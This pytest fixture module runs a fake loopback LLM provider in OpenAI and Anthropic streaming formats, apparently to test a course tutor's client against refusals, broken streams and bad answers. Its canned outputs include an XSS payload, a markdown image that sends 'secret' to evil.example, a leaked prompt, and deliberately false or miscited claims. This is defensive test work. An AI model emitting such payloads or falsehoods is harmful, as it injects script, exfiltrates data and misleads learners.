"""A provider on loopback: it speaks both vendors' dialects and behaves as its model is named."""

import asyncio
import json
import socket
from contextlib import asynccontextmanager

import pytest
from aiohttp import web

from course.tutor.models.configured import configured
from course.tutor.models.model import Source
from course.tutor.models.prompt import RULES

WITHIN = 10.0
SOURCES = (
    Source(
        1, "06#ping", "Ping and pong", "/lessons/06_liveness/#ping",
        "A ping asks whether the peer is there. The pong that answers it carries the payload of "
        "the ping. A server pings every 20 seconds.\nawait line.ping(b'7')",
    ),
    Source(
        2, "close#1006", "1006", "/reference/close-codes/#1006",
        "Code 1006 is never sent on the wire; it means that no close frame came.",
    ),
)  # fmt: skip
GOOD = (
    "A pong that answers a ping carries ", "its payload [1]. The code 1006 is never", " sent [2].",
)  # fmt: skip
ODD = {"type": "content_block_delta", "choices": [{}]}  # neither dialect's members
SAYS = {
    "good": GOOD,
    "invents": ("A pong carries the payload [1]. Pings go out every 45 seconds [1]. Frames [7].",),
    "nothing": ("NOTHING",),
    "unsourced": ("WebSockets were invented in Paris in 1889 by two brothers.",),
    "html": (
        "The pong carries the payload <img src=x onerror=alert(1)> of the ping [1]. ",
        "![pong](https://evil.example/?q=secret) The peer answers a ping with a pong [1].",
    ),
    "breaks": ("A pong carries the payload [1]. A ping ",),
    "hangs": ("A pong carries the payload [1]. And then? ",),
    "echo": (f"{RULES}\n{RULES.splitlines()[0]} [1]",),
    "endless": ("The pong carries the payload of the ping [1]. ",) * 1_000,
}
STOPS = ("cut", "unfinished", "malformed", "hangs")  # after their first piece


class Provider:
    """What it was asked, and how its connections ended."""

    def __init__(self):
        self.asked = []
        self.headers = []
        self.closed = asyncio.Event()
        self.url = ""

    async def chat_completions(self, request):
        return await self._answer(request, chunk, [b"data: [DONE]\n\n"])

    async def messages(self, request):
        return await self._answer(request, event, [sse({"type": "message_stop"}, "message_stop")])

    async def _answer(self, request, form, ending):
        self.asked.append(await request.json())
        self.headers.append(request.headers)
        name = self.asked[-1]["model"]
        if refusal := REFUSALS.get(name):
            return refusal()
        response = web.StreamResponse(headers={"Content-Type": "text/event-stream"})
        await response.prepare(request)
        try:
            await self._stream(name, request, response, form, ending)
        except (ConnectionError, asyncio.CancelledError):
            self.closed.set()
            raise
        return response

    async def _stream(self, name, request, response, form, ending):
        said = SAYS.get(name, GOOD)
        for text in said[:1] if name in STOPS else said:
            await response.write(form(text))
        match name:
            case "cut":
                request.transport.abort()
            case "malformed":
                await response.write(b"event: content_block_delta\ndata: {not json\n\n")
            case "odd":
                await response.write(sse(ODD, "content_block_delta"))
            case "hangs":
                while True:  # comment lines keep a connection alive, and say nothing
                    await response.write(b": still there\n\n")
                    await asyncio.sleep(0.01)
            case "unfinished" | "breaks":
                pass
            case _:
                for last in [form(None), *ending]:
                    await response.write(last)


def sse(data, kind=None):
    named = f"event: {kind}\n" if kind else ""
    return f"{named}data: {json.dumps(data)}\n\n".encode()


def chunk(text):
    """A piece in OpenAI's dialect; None is the last one."""
    choice = {"index": 0, "delta": {"content": text} if text else {}, "finish_reason": None}
    if text is None:
        choice["finish_reason"] = "stop"
    return sse(
        {
            "id": "1",
            "object": "chat.completion.chunk",
            "created": 1,
            "model": "m",
            "choices": [choice],
        }
    )


def event(text):
    """A piece in Anthropic's dialect; None is the last one."""
    if text is None:
        delta = {
            "type": "message_delta",
            "delta": {"stop_reason": "end_turn"},
            "usage": {"output_tokens": 9},
        }
        return sse(delta, "message_delta")
    delta = {
        "type": "content_block_delta",
        "index": 0,
        "delta": {"type": "text_delta", "text": text},
    }
    return sse(delta, "content_block_delta")


def refused(status, **headers):
    """A refusal as both vendors word it."""
    error = {"type": "error", "error": {"type": "some_error", "message": "no"}}
    return lambda: web.json_response(error, status=status, headers=headers)


REFUSALS = {
    "limited": refused(429, **{"Retry-After": "7"}),
    "locked": refused(401),
    "unknown": refused(404),
    "overloaded": refused(529),
    "page": lambda: web.Response(text="<html>It works!</html>", content_type="text/html"),
}


@asynccontextmanager
async def provider():
    made = Provider()
    app = web.Application()
    app.router.add_post("/v1/chat/completions", made.chat_completions)
    app.router.add_post("/v1/messages", made.messages)
    runner = web.AppRunner(app, access_log=None, shutdown_timeout=0.5)
    await runner.setup()
    with socket.create_server(("127.0.0.1", 0)) as server:
        made.url = f"http://127.0.0.1:{server.getsockname()[1]}"
        await web.SockSite(runner, server).start()
        try:
            yield made
        finally:
            await runner.cleanup()


class Stage:
    """A running provider, and models at it as the environment would configure them."""

    def __init__(self, made, dialect):
        self.provider = made
        self.dialect = dialect

    def model(self, name, patience="5"):
        at = self.provider.url + ("/v1" if self.dialect == "openai" else "")
        return configured(
            {
                "TUTOR_MODEL": name, "TUTOR_MODEL_DIALECT": self.dialect, "TUTOR_MODEL_URL": at,
                "TUTOR_MODEL_KEY": "a-key", "TUTOR_MODEL_PATIENCE": patience,
            }
        )  # fmt: skip


@pytest.fixture(params=["openai", "anthropic"])
def dialect(request):
    """Each vendor's."""
    return request.param


@pytest.fixture
def played(dialect):
    """`played(program)` runs `await program(stage)` beside a running provider."""

    def run(program):
        async def play():
            async with asyncio.timeout(30), provider() as made:
                return await program(Stage(made, dialect))

        return asyncio.run(play())

    return run


@pytest.fixture
def sources():
    """Two paragraphs of the course."""
    return SOURCES
